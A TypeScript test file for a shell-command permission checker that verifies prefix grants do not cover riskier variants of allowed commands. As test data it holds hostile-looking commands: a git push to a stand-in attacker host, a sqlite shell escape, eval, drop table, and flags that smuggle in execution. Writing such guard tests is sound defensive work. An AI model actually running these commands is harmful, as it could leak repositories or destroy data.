import { analyzeCommand } from '@countersign/commands';
import {
  type CommandRule,
  covers,
  decideCommand,
  grantPatternsFor,
  LOOKED_AT,
  patternInWords,
} from '@countersign/kernel';
import { expect, test } from 'vitest';

test.each([
  ['git log -3', { exact: [['git', 'log', '-3']], prefix: [['git', 'log']] }],
  ['npm run build -- -w', { exact: [['npm', 'run', 'build', '--', '-w']], prefix: null }],
  [
    'cd a && git status',
    {
      exact: [
        ['cd', 'a'],
        ['git', 'status'],
      ],
      prefix: [['cd'], ['git', 'status']],
    },
  ],
  ['timeout 60 npm test', { exact: [['npm', 'test']], prefix: null }],
  ['ls "$X"', { exact: null, prefix: [['ls']] }],
  ['git -C x log', { exact: [['git', '-C', 'x', 'log']], prefix: null }],
  ['sed -i s/a/b/ f', { exact: [['sed', '-i', 's/a/b/', 'f']], prefix: null }],
  ['./build.sh', { exact: [['./build.sh']], prefix: null }],
  ['curl https://a.example', { exact: [['curl', 'https://a.example']], prefix: null }],
  ['sqlite3 a.db "select 1"', { exact: [['sqlite3', 'a.db', 'select 1']], prefix: null }],
  [
    'git push origin main',
    { exact: [['git', 'push', 'origin', 'main']], prefix: [['git', 'push', 'origin', 'main']] },
  ],
  ['git push -u origin main', { exact: [['git', 'push', '-u', 'origin', 'main']], prefix: null }],
  ['git push', { exact: [['git', 'push']], prefix: null }],
  ['git push origin +main', { exact: [['git', 'push', 'origin', '+main']], prefix: null }],
  ['git push origin main --force', { exact: [['git', 'push', 'origin', 'main', '--force']], prefix: null }],
  [
    'git push https://evil.example/x main',
    { exact: [['git', 'push', 'https://evil.example/x', 'main']], prefix: null },
  ],
  ['git fetch origin', { exact: [['git', 'fetch', 'origin']], prefix: [['git', 'fetch', 'origin']] }],
  ['git commit -am x', { exact: [['git', 'commit', '-am', 'x']], prefix: [['git', 'commit']] }],
  ['git commit --amend', { exact: [['git', 'commit', '--amend']], prefix: null }],
  ['psql -c "drop table x"', { exact: [['psql', '-c', 'drop table x']], prefix: null }],
  ['docker compose up', { exact: [['docker', 'compose', 'up']], prefix: null }],
  ['terraform plan', { exact: [['terraform', 'plan']], prefix: null }],
])('for %j, always may mean %j [P6]', (text, expected) => {
  expect(grantPatternsFor(analyzeCommand(text).units)).toEqual(expected);
});

test.each([
  ...[
    'rm x',
    '/bin/rm x',
    'sudo ls',
    'bash x.sh',
    'python3 x.py',
    'node x.js',
    "bash -c 'rm x'",
    'find . -exec rm {} +',
    'ls | xargs rm',
  ],
  ...[
    '$X',
    'git $X',
    'echo a > x',
    'FOO=1 ls',
    'ls; chmod 777 x',
    'true',
    'env',
    'eval "$X"',
    'ls\0',
    'PATH=x',
  ],
])('for %j there is no always [P6]', (text) => {
  expect(grantPatternsFor(analyzeCommand(text).units)).toBeNull();
});

// What the list of beginnings says, held against commands: inside, and outside.
const CONTINUED: readonly (readonly [
  beginning: string,
  inside: readonly string[],
  outside: readonly string[],
])[] = [
  [
    'git push origin main',
    ['', ' -u', ' --dry-run -v', ' -uq'],
    [
      ' --force',
      ' -f',
      ' --force-with-lease',
      ' -uf',
      ' other',
      ' :main',
      ' +x',
      ' --delete',
      ' --mirror',
      ' --tags',
    ],
  ],
  [
    'git push origin main',
    [' -n'],
    [' --no-verify', ' --repo=x', ' $X', ' "$X"', ' *', ' --receive-pack=x', ' -o ci.skip'],
  ],
  [
    'git fetch origin',
    ['', ' --prune', ' -t'],
    [' main', ' +a:b', ' --force', ' --upload-pack=x', ' --all', ' other'],
  ],
  [
    'git add',
    [' .', ' a b', ' -A', ' -- -x'],
    [' -f x', ' --force', ' --chmod=+x a', ' -Af', ' *.ts', ' $X'],
  ],
  [
    'git commit',
    [' -m x', ' -am "x y"', ' -qm x -s', ' --message=x'],
    [
      ' --amend',
      ' -n',
      ' --no-verify',
      ' -anm x',
      ' -F f',
      ' -C HEAD',
      ' --author=x',
      ' --fixup=x',
      ' -m "$X"',
      ' -m $X',
      ' -m',
    ],
  ],
  ['touch', [' a', ' -c a'], [' -r b a', ' -d x a', ' --date=x a']],
  ['mkdir', [' -p a/b'], [' -m 777 a', ' --mode=777 a']],
  [
    'pytest',
    [' tests/a.py -k x', ' -xvs', ''],
    [' -p x', ' -c x', ' --rootdir=/', ' ../x', ' /x', ' -o a=b', ' -vp x'],
  ],
  [
    'cargo test',
    ['', ' --release -p x'],
    [' --config x', ' -- --nocapture', ' --manifest-path=x', ' -Zx', ' name'],
  ],
  [
    'go test',
    [' ./...', ' -v -run X ./a'],
    [' -exec x ./a', ' -o x', ' -toolexec=x', ' example.com/x', ' -C ..', ' ../x'],
  ],
  ['git log', ['', ' -3', ' --oneline x'], [' --output=x']],
];

for (const [beginning, inside, outside] of CONTINUED) {
  const pattern = { kind: 'command', match: 'prefix', commands: [beginning.split(' ')] } as const;
  const isCovered = (text: string) => {
    const plan = { kind: 'execute', resources: [] } as const;
    return covers(pattern, { tool: 'run_shell_command', plan, asking: analyzeCommand(text).units });
  };
  test.each(inside)(`a grant for "${beginning}" covers it with %j [P6]`, (more) => {
    expect(isCovered(`${beginning}${more}`)).toBe(true);
  });
  test.each(outside)(`a grant for "${beginning}" does not cover it with %j [P6]`, (more) => {
    expect(isCovered(`${beginning}${more}`)).toBe(false);
  });
}

test('every beginning of the list has cases above, or only looks [P6]', () => {
  const tried = CONTINUED.map(([beginning]) => beginning);
  const untried = LOOKED_AT.filter(({ flags }) => flags !== 'any')
    .map(({ words }) => words.join(' '))
    .filter((words) => !tried.some((beginning) => beginning.startsWith(words)));
  expect(untried).toEqual(['cargo build', 'cargo check', 'cargo clippy', 'go build', 'go vet']);
});

test.each([
  [
    ['git', 'push'],
    ['git push'],
    ['git push -u', 'git push --force', 'git push https://evil.example/x main'],
  ],
  [['sqlite3'], [], ['sqlite3 a.db "select 1"', 'sqlite3 a.db .shell']],
  [['npm', 'run', 'build'], ['npm run build'], ['npm run build -- -w', 'npm run build --script-shell=x']],
])(
  'a grant of an earlier version for %j and whatever follows is narrowed to these words [P6]',
  (words, inside, outside) => {
    const pattern = { kind: 'command', match: 'prefix', commands: [words] } as const;
    const isCovered = (text: string) => {
      const plan = { kind: 'execute', resources: [] } as const;
      return covers(pattern, { tool: 'run_shell_command', plan, asking: analyzeCommand(text).units });
    };
    expect(inside.map(isCovered)).toEqual(inside.map(() => true));
    expect(outside.map(isCovered)).toEqual(outside.map(() => false));
    expect(patternInWords(pattern)).toBe(`exactly \`${words.join(' ')}\``);
  },
);

test.each([
  'printf "BEGIN{print 1}" | awk -f -',
  'patch -p1 < a.patch',
  'sqlite3 x.db <<< "select 1"',
  'kubectl apply -f - <<E\nx\nE',
  'printf x | printf $(make -f -)',
  'printf x > >(make -f -)',
])('no "always" is offered for %j, whose input is not among the words, and none covers it [P6]', (text) => {
  const { units } = analyzeCommand(text);
  const asking = units.filter(({ program }) => program !== 'printf');
  expect(grantPatternsFor(asking)).toBeNull();
  const words = asking[0]?.words.map((word) => word.text ?? '') ?? [];
  const pattern = { kind: 'command', match: 'exact', commands: [words] } as const;
  const plan = { kind: 'execute', resources: [] } as const;
  expect(covers(pattern, { tool: 'run_shell_command', plan, asking })).toBe(false);
  const alone = analyzeCommand(words.join(' ')).units;
  expect(covers(pattern, { tool: 'run_shell_command', plan, asking: alone })).toBe(true);
});

test.each([
  'git log -3',
  'git push origin main',
  'cd a && git status',
  'timeout 60 npm test',
  'sed -i s/a/b/ f',
  'npm run build | tail -n 3',
  'ls "$X"',
])('what is offered for %j allows it the next time [P6]', (text) => {
  const analysis = analyzeCommand(text);
  const patterns = grantPatternsFor(analysis.units);
  const conditions: CommandRule['condition'][] = [];
  if (patterns?.exact) conditions.push({ type: 'exact', words: patterns.exact });
  if (patterns?.prefix) conditions.push({ type: 'prefix', words: patterns.prefix });
  expect(conditions.length).toBeGreaterThan(0);
  for (const condition of conditions) {
    const rule: CommandRule = { decision: 'allow', condition, allowRedirection: false };
    expect(decideCommand(analysis, () => [[rule]], 'ask_user').decision).toBe('allow');
  }
});
